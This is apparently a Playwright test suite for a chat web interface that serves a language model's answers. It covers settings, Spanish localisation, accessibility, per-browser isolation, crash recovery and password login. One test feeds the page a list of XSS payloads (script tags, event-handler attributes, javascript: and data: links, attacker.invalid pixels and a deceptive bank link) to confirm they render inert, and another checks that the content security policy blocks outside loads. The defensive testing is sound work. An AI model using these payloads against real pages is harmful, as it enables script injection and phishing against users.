"""The page itself: settings, languages, looks, who sees what, and what a model's text can do to it."""

import asyncio
import re
from collections.abc import Awaitable, Callable
from contextlib import AsyncExitStack
from pathlib import Path

import pytest
from axe_playwright_python.async_playwright import Axe
from playwright.async_api import expect

from tests.browser.client import Client
from tests.browser.reader import Reader
from tests.browser.site import Site, site_over
from tests.scenarios.bot_process import drain, kill
from tests.servers.model import TWENTY_WORDS, ModelServer, counting
from tests.servers.ports import free_port

pytestmark = pytest.mark.asyncio(loop_scope="session")

Visit = Callable[..., Awaitable[Reader]]

ATTACKS = """\
<script>window.hacked = 1</script>
<img src="http://attacker.invalid/a.png" onerror="window.hacked = 2">
<svg onload="window.hacked = 3"></svg>
<iframe src="http://attacker.invalid/"></iframe>
<style>body { display: none }</style>
<a href="javascript:window.hacked=4">raw</a>
<form action="http://attacker.invalid/"><input name="q"></form>

[click](javascript:window.hacked=5) [data](data:text/html,<script>window.hacked=6</script>)

![tracker](http://attacker.invalid/pixel.png) ![](https://attacker.invalid/other.png)

[your bank](https://bank.example@attacker.invalid/login)

```html" onmouseover="window.hacked=7
</code></pre><script>window.hacked = 8</script>
```

`<img src=x onerror=window.hacked=9>`
"""


async def test_what_a_model_writes_does_nothing(site: Site, model: ModelServer, visit: Visit) -> None:
    model.text = ATTACKS
    reader = await visit(site.url)
    await reader.ask("Attack me.")
    await expect(reader.settled.locator(".actions")).to_be_visible()
    body = reader.answer
    assert await body.locator("script, img, svg, iframe, style, form, input").count() == 0
    links = await body.locator("a").evaluate_all("links => links.map(link => link.getAttribute('href'))")
    assert links
    assert all(link.startswith(("http://", "https://")) for link in links)
    for attribute in ("onerror", "onload", "onmouseover", "onclick", "style"):
        assert await body.locator(f"[{attribute}]").count() == 0
    for link in await body.locator("a").all():
        await link.hover()
    assert await reader.page.evaluate("window.hacked") is None
    await expect(body).to_contain_text("your bank (attacker.invalid)")
    await expect(body).to_contain_text("<script>window.hacked = 1</script>")
    await expect(body).to_contain_text("tracker (attacker.invalid)")


async def test_the_page_lets_nothing_in_from_elsewhere(site: Site, model: ModelServer, visit: Visit) -> None:
    """Whatever stands on it: the browser is told so by the page's policy."""
    reader = await visit(site.url)
    await expect(reader.welcome).to_be_visible()
    blocked = await reader.page.evaluate(
        """() => new Promise(done => {
            const seen = [];
            document.addEventListener("securitypolicyviolation", e => seen.push(e.effectiveDirective));
            const image = new Image();
            image.src = "http://attacker.invalid/a.png";
            document.body.append(image);
            const script = document.createElement("script");
            script.src = "http://attacker.invalid/a.js";
            document.body.append(script);
            fetch("http://attacker.invalid/").catch(() => 0);
            setTimeout(() => done(seen.sort()), 500);
        })"""
    )
    assert blocked == ["connect-src", "img-src", "script-src-elem"]
    reader.outside.clear()  # asked for, and not sent


async def test_settings_are_kept_and_used(site: Site, model: ModelServer, visit: Visit) -> None:
    reader = await visit(site.url)
    await reader.open_settings()
    temperature = reader.setting("temperature")
    await expect(temperature).to_have_value("0.9")
    await expect(reader.setting("max_tokens")).to_have_value("256")
    await expect(reader.setting("top_p")).to_have_value("0.9")
    await expect(reader.setting("repetition_penalty")).to_have_value("1.2")
    await expect(reader.setting("seed")).to_have_value("42")
    await temperature.fill("1.5")
    await temperature.press("Enter")
    await expect(reader.page.locator("#said")).to_contain_text("temperature from 0.9 to 1.5")
    await reader.setting("top_p").press("ArrowDown")
    await reader.setting("top_p").press("Enter")
    await expect(reader.page.locator("#said")).to_contain_text("top_p from 0.9 to 0.89")
    await reader.setting("system").fill("Answer in one word.")
    await reader.setting("system").blur()
    await expect(reader.page.locator("#said")).to_contain_text("Answer in one word.")
    await reader.page.reload()
    await reader.open_settings()
    await expect(temperature).to_have_value("1.5")
    await expect(reader.setting("top_p")).to_have_value("0.89")
    await expect(reader.setting("system")).to_have_value("Answer in one word.")
    await reader.ask("Why?")
    await reader.answered(TWENTY_WORDS)
    sent = model.requests[-1].body
    assert (sent["temperature"], sent["top_p"], sent["max_tokens"]) == (1.5, 0.89, 256)
    assert "Answer in one word." in sent["messages"][0]["content"]


async def test_a_wrong_value_is_said_at_its_field_and_stays_there(
    site: Site, model: ModelServer, visit: Visit
) -> None:
    reader = await visit(site.url)
    await reader.open_settings()
    temperature = reader.setting("temperature")
    await expect(temperature).to_have_value("0.9")
    await temperature.fill("7")
    await temperature.press("Enter")
    await expect(reader.page.locator("#set-temperature")).to_contain_text("from 0 to 2")
    await expect(temperature).to_have_value("7")
    await reader.page.reload()
    await reader.open_settings()
    await expect(temperature).to_have_value("0.9")


async def test_a_preset_moves_the_handles_and_the_defaults_bring_them_back(
    site: Site, model: ModelServer, visit: Visit
) -> None:
    reader = await visit(site.url)
    await reader.open_settings()
    await expect(reader.setting("temperature")).to_have_value("0.9")
    await reader.setting("preset").select_option("precise")
    await expect(reader.setting("temperature")).to_have_value("0.2")
    await expect(reader.setting("top_p")).to_have_value("0.7")
    await reader.page.get_by_label("Another one for each answer").check()
    await expect(reader.setting("seed")).to_be_disabled()
    await reader.button("Back to the defaults").click()
    await expect(reader.setting("temperature")).to_have_value("0.9")
    await expect(reader.setting("seed")).to_have_value("42")


async def test_what_is_set_in_words_stands_in_the_controls_too(
    site: Site, model: ModelServer, visit: Visit
) -> None:
    reader = await visit(site.url)
    await reader.ask("!temperature 0.3")
    await expect(reader.notice).to_contain_text("from 0.9 to 0.3")
    await reader.open_settings()
    await expect(reader.setting("temperature")).to_have_value("0.3")
    await reader.ask("!preset precise")
    await expect(reader.setting("temperature")).to_have_value("0.2")
    assert model.requests == []


async def test_two_browsers_never_see_each_other(site: Site, model: ModelServer, visit: Visit) -> None:
    model.pace = 20.0
    ada, bob = await visit(site.url), await visit(site.url)
    await ada.ask("A secret of Ada's.")
    await expect(ada.answer).to_have_text(re.compile("^w0"))
    conversation = ada.page.url.partition("#")[2]
    await bob.page.goto(f"{site.url}/en/#{conversation}")
    await bob.page.reload()
    await expect(bob.welcome).to_be_visible()
    await ada.answered(TWENTY_WORDS)
    await expect(bob.listed).to_have_count(0)
    await bob.ask("Bob's own.")
    await bob.answered(TWENTY_WORDS)
    await expect(bob.questions).to_have_text(["Bob's own."])
    await expect(ada.questions).to_have_text(["A secret of Ada's."])
    assert "Ada's" not in str(model.requests[-1].body)


async def test_a_bot_that_is_killed_in_mid_answer_goes_on_when_it_is_back(
    model: ModelServer, visit: Visit, tmp_path: Path
) -> None:
    model.text, model.pace, model.cuts = counting(80), 15.0, True
    port = free_port()
    async with site_over(model, tmp_path, port=port) as site:
        reader = await visit(site.url)
        await reader.ask("Count through it all.")
        await expect(reader.answer).to_have_text(re.compile("w8"))
        await kill(site.process)
    async with site_over(model, tmp_path, port=port):
        await expect(reader.questions).to_have_text(["Count through it all."], timeout=60_000)
        await expect(reader.answer).to_have_text(counting(80), timeout=60_000)
        await reader.answered(counting(80))
        await expect(reader.page.locator(".message.bot")).to_have_count(1)


async def test_thirty_readers_at_once_are_never_more_than_twenty_at_the_model(
    site: Site, model: ModelServer, visit: Visit
) -> None:
    model.flowing.clear()
    seen = await visit(site.url)
    await expect(seen.welcome).to_be_visible()
    async with AsyncExitStack() as others:
        clients = [await others.enter_async_context(Client(site.url)) for _ in range(29)]
        await asyncio.gather(*(client.ask("Count.") for client in clients))
        await asyncio.gather(*(client.until("w0|Before you: ") for client in clients))
        await seen.ask("Count, too.")
        await expect(seen.answer).to_have_text(re.compile("Before you: 9."))
        assert sum("Before you: " in client.heard for client in clients) == 9
        model.flowing.set()
        await asyncio.gather(*(client.until("w19") for client in clients))
        await seen.answered(TWENTY_WORDS)
    assert model.most_answering == 20
    assert len(model.requests) == 30


async def test_spanish_is_spoken_to_who_asks_for_it(site: Site, model: ModelServer, visit: Visit) -> None:
    reader = await visit(site.url, locale="es-MX")
    await expect(reader.welcome).to_contain_text("¿Qué te gustaría saber?")
    assert await reader.page.evaluate("document.documentElement.lang") == "es"
    await expect(reader.button("Enviar")).to_be_visible()
    await expect(reader.page.locator("#set-temperature")).to_contain_text("Temperatura")
    await reader.ask("¿Por qué?")
    await reader.answered(TWENTY_WORDS)
    await expect(reader.button("Otra versión")).to_be_visible()


async def test_a_language_that_is_chosen_goes_before_the_browsers(
    site: Site, model: ModelServer, visit: Visit
) -> None:
    reader = await visit(site.url)
    await expect(reader.welcome).to_be_visible()
    await reader.open_settings()
    await reader.setting("language").select_option("es")
    await expect(reader.welcome).to_contain_text("¿Qué te gustaría saber?")
    await reader.page.goto(site.url)
    await expect(reader.welcome).to_contain_text("¿Qué te gustaría saber?")


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("width", [1280, 390])
async def test_axe_finds_nothing_serious(
    site: Site, model: ModelServer, visit: Visit, scheme: str, width: int
) -> None:
    model.text = (
        "# A title\n\n`code`, [a link](https://example.org)\n\n```python\nx = 1\n```\n\n|a|\n|-|\n|b|"
    )
    reader = await visit(site.url, color_scheme=scheme, viewport={"width": width, "height": 844})
    await expect(reader.welcome).to_be_visible()
    found = [*await _serious(reader)]
    await reader.ask("Show me everything.")
    await expect(reader.settled.locator(".actions")).to_be_visible()
    found += await _serious(reader)
    if width == 390:
        await reader.open_settings()
        found += await _serious(reader)
    assert found == []


async def _serious(reader: Reader) -> list[str]:
    result = await Axe().run(reader.page)
    return [
        f"{each['id']}: {each['help']}: {[node['html'][:200] for node in each['nodes']]}"
        for each in result.response["violations"]
        if each["impact"] in ("serious", "critical")
    ]


async def test_a_phone_shows_all_of_it_without_scrolling_sideways(
    site: Site, model: ModelServer, visit: Visit
) -> None:
    model.text = "A line of code:\n\n```\n" + "x" * 300 + "\n```\n\n" + "https://example.org/" + "y" * 200
    reader = await visit(site.url, viewport={"width": 390, "height": 844}, has_touch=True)
    await reader.ask("Wide, please.")
    await expect(reader.settled.locator(".actions")).to_be_visible()
    assert await reader.page.evaluate("document.documentElement.scrollWidth") <= 390
    await reader.button("Your conversations").click()
    await expect(reader.listed).to_have_text(["Wide, please."])
    await expect(reader.listed).to_be_in_viewport()


async def test_the_keyboard_is_enough(site: Site, model: ModelServer, visit: Visit) -> None:
    reader = await visit(site.url)
    await expect(reader.page.locator("#question")).to_be_focused()
    await reader.page.keyboard.type("Typed only.")
    await reader.page.keyboard.press("Shift+Enter")
    await reader.page.keyboard.type("Two lines.")
    await reader.page.keyboard.press("Enter")
    await reader.answered(TWENTY_WORDS)
    await expect(reader.questions).to_have_text("Typed only.\nTwo lines.", use_inner_text=True)
    model.text = "Another one."
    await reader.settled.locator(".actions button").first.focus()
    await reader.page.keyboard.press("Enter")
    await expect(reader.page.locator(".version")).to_have_text("2/2")


async def test_who_has_no_password_stays_out(model: ModelServer, visit: Visit, tmp_path: Path) -> None:
    async with site_over(
        model, tmp_path, WEB_HOST="0.0.0.0", WEB_USERS="ada:correct horse,bob:battery staple"
    ) as site:
        reader = await visit(site.url)
        assert reader.page.url.endswith("/login")
        refused = await reader.context.request.get(f"{site.url}/en/api/settings")
        assert refused.status == 401
        await reader.page.get_by_label("Name").fill("ada")
        await reader.page.get_by_label("Password").fill("wrong horse")
        await reader.button("Log in").click()
        await expect(reader.page.get_by_role("alert")).to_be_visible()
        await reader.page.get_by_label("Name").fill("ada")
        await reader.page.get_by_label("Password").fill("correct horse")
        await reader.button("Log in").click()
        await expect(reader.welcome).to_be_visible()
        await reader.ask("Let me in.")
        await reader.answered(TWENTY_WORDS)
        await reader.button("Log out").click()
        await expect(reader.page.get_by_label("Password")).to_be_visible()
        assert await drain(site.process) == 0
        assert "horse" not in site.log()
